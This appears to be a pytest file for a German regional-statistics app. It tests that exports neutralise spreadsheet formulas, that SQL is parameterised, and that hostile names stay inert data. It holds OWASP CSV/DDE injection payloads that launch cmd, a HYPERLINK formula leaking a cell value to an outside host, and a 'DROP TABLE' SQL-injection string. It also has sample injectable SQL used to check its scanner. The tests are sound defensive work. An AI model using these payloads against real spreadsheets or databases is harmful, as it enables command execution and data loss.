"""Injection: no download holds a cell a spreadsheet would run, no SQL is built from text, hostile names travel.

* Every export format (German CSV, plain CSV, XLSX; Parquet keeps typed text for programs) and the targets CSV
  neutralise cells starting with ``= + - @``, tab, CR or LF, also after spaces, inside quoted fields and as
  DDE payloads.
* A source scan of ``indicators/``, ``ui/``, ``app_pages/`` and ``app.py``: SQL goes only through the store and the
  user-data module, and every string passed to ``execute``/``sql``/``query`` is a literal or built from literals
  (values travel as parameters). Exceptions are listed below with the reason they are safe.
* Names with quotes and semicolons (``Landkreis Göttingen (Stadt Göttingen)``, ``x'); DROP TABLE facts; --``) pass
  unchanged through store queries, peer groups, target notes, exports and the CSV import and export.
"""

from __future__ import annotations

import ast
import csv
import io
import json
import re
import shutil
import zipfile
from datetime import datetime
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

from indicators.domain.targets import Target
from indicators.importers import generic_csv
from indicators.outputs import exports
from indicators.userdata import UserData
from indicators.warehouse.build import build
from indicators.warehouse.store import Store

ROOT = Path(__file__).resolve().parents[1]
FIX = Path(__file__).resolve().parent / "fixtures"
GOETTINGEN = "Landkreis Göttingen (Stadt Göttingen)"
DROP = "x'); DROP TABLE facts; --"
QUOTES = 'Kreis "Süd"; Ost\'s Mitte'
#: Payloads from the OWASP CSV-injection cheat sheet and their variants (spaces, quotes, full-width signs).
FORMULAS = [
    "=cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.org/?x="&A1;"klick")',
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "   =1+1",
    "\u00a0@SUMME(A1)",
    " \t-1+1",
    "\uff1d1+1",
    "\";=cmd|' /C calc'!A0;\"",
    "=1;=2",
    "'=already",
]
_NUMBER = re.compile(r"-?\d+([.,]\d+)?([eE][-+]?\d+)?")
_STARTS = "=+-@\uff1d\uff0b\uff0d\uff20"


def executable(cell: object) -> bool:
    """Whether a spreadsheet would treat the cell as a formula (a plain negative number is a number)."""
    if not isinstance(cell, str) or not cell or _NUMBER.fullmatch(cell):
        return False
    return cell[0] in "\t\r\n" or cell.lstrip(" \u00a0\t\r\n")[:1] in _STARTS


def test_the_oracle_itself():
    assert all(executable(p) for p in FORMULAS if not p.startswith(("'", '"')))
    assert not any(executable(c) for c in ["'=1", "-0,5", "-12", "1e-5", "Göttingen", "", "'\t=1"])


# --- exports ---------------------------------------------------------------------------------------------------

REGIONS = ["15087", "03159", "01001", "11000"]
INDICATORS = ["alq", "jugend_alq", "kreistyp"]


@pytest.fixture(scope="module")
def poisoned(demo_warehouse):
    """Demo facts with formula payloads in every text that reaches a download."""
    store = Store(demo_warehouse)
    facts = store.facts(REGIONS + ["DG", "15"], INDICATORS, (2019, 2023))
    districts = store.districts()
    for ags, name in zip(REGIONS, FORMULAS, strict=False):
        districts.loc[districts["ags"] == ags, "display_name"] = name
    districts.loc[districts["ags"] == "11000", "land_name"] = FORMULAS[4]
    indicators = store.indicators()
    indicators.loc[indicators["id"] == "alq", "label"] = FORMULAS[5]
    indicators.loc[indicators["id"] == "alq", "unit"] = FORMULAS[6]
    indicators.loc[indicators["id"] == "jugend_alq", "label"] = FORMULAS[9]
    facts["source"] = FORMULAS[1]
    labels = facts["value_label"].astype("object")
    facts["value_label"] = labels.where(labels.isna(), FORMULAS[2])
    manifest = dict(store.manifest) | {"sources": [{"file": "x.csv", "title": FORMULAS[0], "licence": FORMULAS[3]}]}
    return facts, districts, indicators, manifest


def cells_of(fmt: str, data: bytes) -> list[str]:
    if fmt == "xlsx":
        book = openpyxl.load_workbook(io.BytesIO(data))
        cells = []
        for sheet in book.worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", f"Formel in {sheet.title}!{cell.coordinate}: {cell.value}"
                    if isinstance(cell.value, str):
                        cells.append(cell.value)
        return cells
    archive = zipfile.ZipFile(io.BytesIO(data))
    member = next(n for n in archive.namelist() if n != "QUELLEN.txt")
    text = archive.read(member).decode("utf-8-sig")
    delimiter = ";" if fmt == "csv_de" else ","
    return [cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter) for cell in row]


@pytest.mark.parametrize("layout", list(exports.LAYOUTS))
@pytest.mark.parametrize("fmt", ["csv_de", "csv", "xlsx"])
def test_no_export_holds_an_executable_cell(poisoned, fmt, layout):
    facts, districts, indicators, manifest = poisoned
    download = exports.export(facts, districts, indicators, manifest, fmt, layout, "test", created=datetime(2024, 1, 1))
    cells = cells_of(fmt, download.data)
    assert len(cells) > 20
    assert [c for c in cells if executable(c)] == []
    # the payloads are there, as text with an apostrophe, not dropped
    joined = "\n".join(cells)
    assert "'=cmd|' /C calc'!A0" in joined and "'   =1+1" in joined


def test_parquet_keeps_text_as_it_is_for_programs(poisoned):
    facts, districts, indicators, manifest = poisoned
    download = exports.export(facts, districts, indicators, manifest, "parquet", "lang", "test")
    archive = zipfile.ZipFile(io.BytesIO(download.data))
    member = next(n for n in archive.namelist() if n.endswith(".parquet"))
    table = pd.read_parquet(io.BytesIO(archive.read(member)))
    assert FORMULAS[0] in set(table["Kreis"])  # typed data, no spreadsheet: unchanged


def test_note_line_below_a_table_stays_one_safe_cell():
    line = exports.note_line(f"Quelle: RegioMonitor; Vergleichsgruppe x;{FORMULAS[0]}")
    [row] = list(csv.reader(io.StringIO(line.decode("utf-8")), delimiter=";"))
    assert row == [f"Quelle: RegioMonitor; Vergleichsgruppe x;{FORMULAS[0]}"]
    [row] = list(csv.reader(io.StringIO(exports.note_line(FORMULAS[13]).decode("utf-8")), delimiter=";"))
    assert row == [FORMULAS[13]]  # the quotes stay inside the one cell: no second cell starting with =


def test_priority_table_csv_is_neutralised():
    table = pd.DataFrame({"Punkte": [3, 2], "Indikator": [FORMULAS[0], GOETTINGEN], "Δ Vorjahr": ["+0,4 pp", "-1,0"]})
    data = exports.to_csv(table) + exports.note_line("Quelle; " + FORMULAS[4])
    cells = [c for row in csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";") for c in row]
    assert [c for c in cells if executable(c)] == []
    assert GOETTINGEN in cells and "'+0,4 pp" in cells and "3" in cells


KNOWN_INDICATORS = {"alq", "jugend_alq"}
KNOWN_AGS = {"15087", "03159", "01001"}


@pytest.mark.parametrize("payload", FORMULAS + [GOETTINGEN, DROP, QUOTES])
def test_targets_csv_is_safe_and_round_trips(tmp_path, payload):
    ud = UserData(tmp_path / "ziele.sqlite")
    ud.add_target(Target(None, "15087", "alq", -0.5, 2027, agreed_by=payload, note=payload), payload)
    data = ud.export_targets_csv()
    cells = [c for row in csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=";") for c in row]
    assert [c for c in cells if executable(c)] == []
    again = UserData(tmp_path / "wieder.sqlite")
    report = again.import_targets_csv(data, "import", KNOWN_INDICATORS, KNOWN_AGS)
    assert report.ok, report.errors
    [target] = again.targets()
    assert (target.note, target.agreed_by, target.target_value) == (payload.strip(), payload.strip(), -0.5)


# --- SQL is parameterised ------------------------------------------------------------------------------------

SQL_CALLS = {"execute", "executemany", "executescript", "sql", "query", "read_sql", "read_sql_query"}
#: The warehouse store and the user-data modules that hold a database driver (the record modules of the
#: user-data package write SQL but get their connection handed in).
SQL_MODULES = {"indicators/warehouse/store.py"} | {
    f"indicators/userdata/{name}.py" for name in ("sqlite", "postgresql", "schema", "backup")
}
#: (file, function) -> why the interpolation there cannot carry user input.
ALLOWED_DYNAMIC_SQL = {
    ("indicators/userdata/schema.py", "apply_migrations"): "PRAGMA user_version = <int loop counter>",
    ("indicators/userdata/schema.py", "table_columns"): "PRAGMA table_info(<table name read from sqlite_master>)",
    ("indicators/userdata/targets.py", "insert_target"): "column names of the Target dataclass; values as ? parameters",
    ("indicators/userdata/targets.py", "write_version"): "column names of the Target dataclass; values as ? parameters",
    ("indicators/userdata/transfer.py", "read_all"): "table names from schema.TABLES",
    ("indicators/userdata/transfer.py", "write_all"): "table names from schema.TABLES, column names read from the rows "
    "of the other database's same table; values as ? parameters",
    ("indicators/userdata/transfer.py", "holds_data"): "table names from schema.TABLES",
    ("indicators/userdata/postgresql.py", "execute"): "the callers' literal SQL with ? turned into %s",
    ("indicators/userdata/postgresql.py", "migrate"): "POSTGRESQL_MIGRATIONS[<int loop counter>]",
    ("indicators/userdata/postgresql.py", "empty_for_replacement"): "table names from schema.TABLES",
    ("indicators/userdata/postgresql.py", "after_copy"): "table names from schema.TABLES",
}


def _sources() -> list[Path]:
    files = [ROOT / "app.py"]
    for folder in ("indicators", "ui", "app_pages"):
        files += sorted((ROOT / folder).rglob("*.py"))
    return files


class _SqlVisitor(ast.NodeVisitor):
    """Finds calls of execute/sql/query whose first argument is not built from literals alone."""

    def __init__(self, rel: str):
        self.rel = rel
        self.scopes: list[tuple[str, dict[str, list[ast.expr]], set[str]]] = []
        self.found: list[str] = []

    def visit_FunctionDef(self, node):  # noqa: N802 - ast API
        assigned: dict[str, list[ast.expr]] = {}
        for sub in ast.walk(node):
            if isinstance(sub, ast.Assign):
                for target in sub.targets:
                    if isinstance(target, ast.Name):
                        assigned.setdefault(target.id, []).append(sub.value)
            elif isinstance(sub, (ast.AugAssign, ast.AnnAssign)) and isinstance(sub.target, ast.Name) and sub.value:
                assigned.setdefault(sub.target.id, []).append(sub.value)
        params = {a.arg for a in node.args.args + node.args.kwonlyargs}
        self.scopes.append((node.name, assigned, params))
        self.generic_visit(node)
        self.scopes.pop()

    visit_AsyncFunctionDef = visit_FunctionDef

    def _static(self, node: ast.expr, seen: frozenset[str] = frozenset()) -> bool:
        if isinstance(node, ast.Constant):
            return isinstance(node.value, str)
        if isinstance(node, ast.JoinedStr):
            return all(isinstance(v, ast.Constant) for v in node.values)
        if isinstance(node, ast.BinOp) and isinstance(node.op, ast.Add):
            return self._static(node.left, seen) and self._static(node.right, seen)
        if isinstance(node, ast.IfExp):
            return self._static(node.body, seen) and self._static(node.orelse, seen)
        if isinstance(node, ast.Name) and self.scopes and node.id not in seen:
            name, assigned, params = self.scopes[-1]
            values = assigned.get(node.id, [])
            if not values:
                # a parameter: only the store's own query() passes SQL through, checked at its call sites
                return node.id in params and (self.rel, name) == ("indicators/warehouse/store.py", "query")
            return all(self._static(v, seen | {node.id}) for v in values)
        return False

    def visit_Call(self, node):  # noqa: N802 - ast API
        func = node.func
        if isinstance(func, ast.Attribute) and func.attr in SQL_CALLS and node.args:
            scope = self.scopes[-1][0] if self.scopes else "<modul>"
            if not self._static(node.args[0]) and (self.rel, scope) not in ALLOWED_DYNAMIC_SQL:
                self.found.append(f"{self.rel}:{node.lineno} in {scope}(): {ast.unparse(node.args[0])[:80]}")
        self.generic_visit(node)


def test_sql_is_built_from_literals_only():
    problems = []
    for path in _sources():
        rel = str(path.relative_to(ROOT))
        visitor = _SqlVisitor(rel)
        visitor.visit(ast.parse(path.read_text(encoding="utf-8")))
        problems += visitor.found
    assert problems == [], "SQL aus Text zusammengesetzt:\n" + "\n".join(problems)


def test_only_the_store_and_user_data_talk_sql():
    for path in _sources():
        rel = str(path.relative_to(ROOT))
        tree = ast.parse(path.read_text(encoding="utf-8"))
        imported = {a.name.split(".")[0] for n in ast.walk(tree) if isinstance(n, ast.Import) for a in n.names}
        imported |= {(n.module or "").split(".")[0] for n in ast.walk(tree) if isinstance(n, ast.ImportFrom)}
        if imported & {"duckdb", "sqlite3", "psycopg", "psycopg_pool"}:
            assert rel in SQL_MODULES, f"{rel} importiert einen SQL-Treiber"


def test_the_scan_catches_what_it_should():
    """The scanner is not vacuous: an f-string, .format, % and concatenation with a variable are found."""
    code = """
def bad(con, name, rows):
    con.execute(f"SELECT * FROM facts WHERE region = '{name}'")
    con.execute("SELECT * FROM facts WHERE region = '{}'".format(name))
    con.sql("SELECT * FROM facts WHERE region = '%s'" % name)
    sql = "SELECT * FROM facts WHERE region = '" + name + "'"
    con.query(sql)
def good(con, name):
    sql = "SELECT * FROM facts WHERE 1 = 1"
    sql += " AND region = ?"
    con.execute(sql + " ORDER BY region", [name])
"""
    visitor = _SqlVisitor("beispiel.py")
    visitor.visit(ast.parse(code))
    assert [f.split(":")[1].split(" ")[0] for f in visitor.found] == ["3", "4", "5", "7"]


# --- hostile names travel safely -------------------------------------------------------------------------------


@pytest.mark.parametrize("name", [GOETTINGEN, DROP, QUOTES, FORMULAS[0]])
def test_store_queries_take_hostile_text_as_data(demo_warehouse, name):
    store = Store(demo_warehouse)
    before = len(store.facts())
    assert store.value(name, "alq", 2023) is None
    assert store.value("15087", name, 2023) is None
    assert store.series(name, [name, "15087"]).empty
    assert store.facts([name], [name]).empty
    assert store.values(name, 2023).empty
    assert store.indicator(name) is None or store.indicator(name) == {}
    assert len(store.facts()) == before and len(Store(demo_warehouse).facts()) == before


@pytest.mark.parametrize("name", [GOETTINGEN, DROP, QUOTES, FORMULAS[0]])
def test_peer_groups_and_notes_keep_hostile_names(tmp_path, name):
    ud = UserData(tmp_path / "nutzer.sqlite")
    group = ud.save_peer_group(name, ["15087", "03159"], name)
    ud.add_note("15087", name, name, indicator=name)
    again = UserData(tmp_path / "nutzer.sqlite")
    assert [(g.name, g.members, g.updated_by) for g in again.peer_groups()] == [(name, ("15087", "03159"), name)]
    assert [n.text for n in again.notes("15087", indicator=name)] == [name]
    again.save_peer_group(name, ["15087"], "ben", expected_version=group.version)
    assert [h["changed_by"] for h in again.peer_group_history(name)] == [name, "ben"]
    again.delete_peer_group(name, "ben", expected_version=2)
    assert again.peer_groups() == []
    assert len(again.peer_group_history(name)) == 3  # the tables are all still there


def test_hostile_names_survive_csv_import_build_and_export(tmp_path):
    """An own CSV with a hostile label and column name: imported, built, queried and exported unchanged."""
    raw = tmp_path / "raw"
    shutil.copytree(FIX / "bbsr", raw / "bbsr", ignore=shutil.ignore_patterns("*.py"))
    (raw / "eigene").mkdir()
    table = raw / "eigene" / "hostile.csv"
    column = 'Quote; "U25"'
    table.write_text(
        f'Schlüssel;Jahr;"{column.replace(chr(34), chr(34) * 2)}"\n15087;2022;12,5\n03159;2022;7,25\n', encoding="utf-8"
    )
    mapping = {
        "format": generic_csv.MAPPING_FORMAT,
        "encoding": "utf-8",
        "delimiter": ";",
        "decimal": ",",
        "thousands": "",
        "key_column": "Schlüssel",
        "year_column": "Jahr",
        "title": GOETTINGEN,
        "publisher": DROP,
        "values": [{"column": column, "id": "hostile", "label": DROP, "unit": QUOTES}],
    }
    generic_csv.mapping_path(table).write_text(json.dumps(mapping, ensure_ascii=False), encoding="utf-8")
    build(raw, tmp_path / "warehouse")
    store = Store(tmp_path / "warehouse")
    meta = store.indicator("eigene__hostile")
    assert meta["label"] == DROP and meta["unit"] == QUOTES
    assert store.value("15087", "eigene__hostile", 2022) == pytest.approx(12.5)
    assert store.value("03159", "eigene__hostile", 2022) == pytest.approx(7.25)
    facts = store.facts(["15087", "03159"], ["eigene__hostile"])
    districts = store.districts()
    districts.loc[districts["ags"] == "03159", "display_name"] = GOETTINGEN
    download = exports.export(facts, districts, store.indicators(), store.manifest, "csv_de", "lang", "x")
    archive = zipfile.ZipFile(io.BytesIO(download.data))
    member = next(n for n in archive.namelist() if n != "QUELLEN.txt")
    rows = list(csv.DictReader(io.StringIO(archive.read(member).decode("utf-8-sig")), delimiter=";"))
    assert {(r["AGS"], r["Kreis"], r["Indikator"], r["Einheit"], r["Wert"]) for r in rows} == {
        ("15087", districts.set_index("ags").loc["15087", "display_name"], DROP, QUOTES, "12,5"),
        ("03159", GOETTINGEN, DROP, QUOTES, "7,25"),
    }
    assert DROP in archive.read("QUELLEN.txt").decode("utf-8-sig")
